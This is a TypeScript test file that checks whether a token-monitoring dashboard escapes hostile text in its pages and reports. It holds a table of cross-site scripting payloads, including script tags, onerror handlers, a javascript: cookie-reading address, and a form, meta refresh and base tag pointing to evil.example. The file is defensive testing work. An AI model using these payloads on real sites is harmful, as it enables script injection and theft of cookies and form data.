import { afterEach, describe, expect, test } from 'vitest';
import { drawReport } from '../../../cli/serve/report.ts';
import type { Source } from '../../../cli/serve/source.ts';
import { plain } from '../../../core/base/text.ts';
import { DAY } from '../../../core/base/time.ts';
import type { AuditEntry, Quiet, TokenRecord } from '../../../core/model/record.ts';
import { tokenId } from '../../../core/model/token.ts';
import type { Overview } from '../../../core/overview/overview.ts';
import { DIAGNOSES, NOW, quietOf, recordOf } from '../../support/digest-records.ts';
import { NAMES, overviewOf } from '../../support/overview.ts';
import { readPage } from './read-page.ts';
import { opened } from './visit.ts';

/** Said in every place at once. The harmless word has the same shape: one word, one line. */
const HARMLESS = 'harmless';
const HOSTILE: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example></SCRIPT>',
  'an end of an attribute': '"><img src=x onerror=alert(1)>',
  'an end of an attribute by one quote': "'><svg onload=alert(1)>",
  'an attribute': 'x" onmouseover="alert(1)" y="',
  'an end of our own elements': '</td></tr></table></main></body></html><h1>Signed out</h1>',
  'an end of what is read as text': '</textarea></title></style></select></option><iframe src=//evil.example>',
  'a comment': '<!-- --><!--',
  'a form of somebody else': '<form action=//evil.example><input name=proof>',
  'a button of CloudWatch': '<cwdb-action endpoint="arn:evil" action="call">{}</cwdb-action>',
  'an entity': '&lt;script&gt;&#60;script&#x3e;',
  'a style': '<style>*{background:url(//evil.example)}</style>',
  'a refresh': '<meta http-equiv=refresh content="0;url=//evil.example">',
  'another base': '<base href=//evil.example>',
  'an address that runs': 'javascript:alert(document.cookie)',
  'an address': 'https://evil.example/rotate?now',
  'data as an address': 'data:text/html,<script>alert(1)</script>',
  quotes: `"'\`"'`,
};

const quietBy = (word: string): Quiet => ({ ...quietOf('degraded'), by: word, why: word });

const recordSaying = (word: string): TokenRecord => {
  const ref = { id: tokenId(word, word), name: word, field: word, source: word };
  return recordOf(
    word,
    {
      ...DIAGNOSES.degraded(word),
      evidence: [word],
      remedy: [word],
      // Of the catalogue: a real address is a link.
      docsUrl: word.startsWith('https://') ? HARMLESS : word,
      subject: word,
      settle: word,
      exchange: { request: word, status: 403, code: word, message: word, requestId: word, at: NOW },
    },
    {
      ref,
      kind: word,
      owner: word,
      environment: word,
      versionId: 'v1',
      previousVersionId: word,
      quiet: quietBy(word),
      incident: { id: word, finding: 'degraded', openedAt: NOW - DAY, versionId: 'v1', badSince: NOW - DAY },
      changedBy: { asked: 1, by: word },
    },
  );
};

const overviewSaying = (word: string): Overview => {
  const record = recordSaying(word);
  const audit: readonly AuditEntry[] = [
    { schema: 1, token: record.ref, revision: 1, at: NOW - 2, by: word, quiet: quietBy(word) },
    { schema: 1, token: record.ref, at: NOW - 1, by: word, looked: true },
  ];
  return overviewOf([record], {
    audit,
    issuers: [{ host: word, hold: { since: NOW - 1, until: NOW + DAY } } as never],
  });
};

const sourceSaying = (word: string): Source => ({
  read: async () => overviewSaying(word),
  act: async () => ({ came: 'cannot look', record: recordSaying(word), why: word, remedy: word }),
  names: NAMES,
  start: 'check a file',
  canLook: true,
  canSweep: false,
  close: () => {},
});

const closing: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});
const doorOf = async (word: string) => {
  const door = await opened(sourceSaying(word));
  closing.push(door.close);
  return door;
};

/** Through the server, with the words in the filter as well, and an answer to a press above the table. */
const pagesSaying = async (word: string) => {
  const door = await doorOf(word);
  const query = new URLSearchParams({ show: 'all', owner: word, find: word }).toString();
  return {
    all: readPage((await door.page('?show=all')).body),
    pressed: readPage((await door.press(`look?${query}`, { token: word, why: word })).page.body),
    filtered: readPage(
      (
        await door.page(
          `?show=rejected&provider=${encodeURIComponent(word.split('.')[0] ?? '')}&find=${encodeURIComponent(word)}`,
        )
      ).body,
    ),
    report: readPage(drawReport(overviewSaying(word), { names: NAMES, start: 'check a file' })),
  };
};

/** What stands in each text where the harmless word stood: whole, or cut, and with its addresses made harmless. */
const shownFor = (word: string, before: readonly string[], after: readonly string[]): readonly string[] =>
  before.flatMap((text, n) => {
    const [start = '', end, ...more] = text.split(word);
    if (end === undefined || more.length > 0) return [];
    const said = after[n] ?? '';
    expect([said.startsWith(start), said.endsWith(end)]).toEqual([true, true]);
    const shown = said.slice(start.length, said.length - end.length).replace(/\.\.\.$/, '');
    return [shown.replace(/\[([.:])\]/g, '$1')];
  });

describe('every word of others is text, wherever it stands:', () => {
  test.each(Object.entries(HOSTILE))('%s', async (_, word) => {
    const [hostile, harmless] = [await pagesSaying(word), await pagesSaying(HARMLESS)];
    for (const page of ['all', 'pressed', 'filtered', 'report'] as const)
      expect(hostile[page].elements, page).toEqual(harmless[page].elements);

    expect(shownFor(HARMLESS, harmless.all.texts, hostile.all.texts).length).toBeGreaterThan(10);
    for (const shown of shownFor(HARMLESS, harmless.all.texts, hostile.all.texts)) expect(plain(word)).toContain(shown);
    expect(hostile.filtered.values).toContain(plain(word, 200));
  });
});

test('the reader of pages would notice: a page in which one word is not escaped differs', async () => {
  const door = await doorOf(HARMLESS);
  const page = (await door.page('?show=all')).body;
  expect(() => readPage(page.replace(HARMLESS, '<img src=x onerror=alert(1)>'))).toThrow('no page of ours');
  expect(() => readPage(page.replace(HARMLESS, '<b>'))).toThrow('no page of ours');
  expect(readPage(page.replace(`>${HARMLESS}<`, '><b>x</b><')).elements).not.toEqual(readPage(page).elements);
});
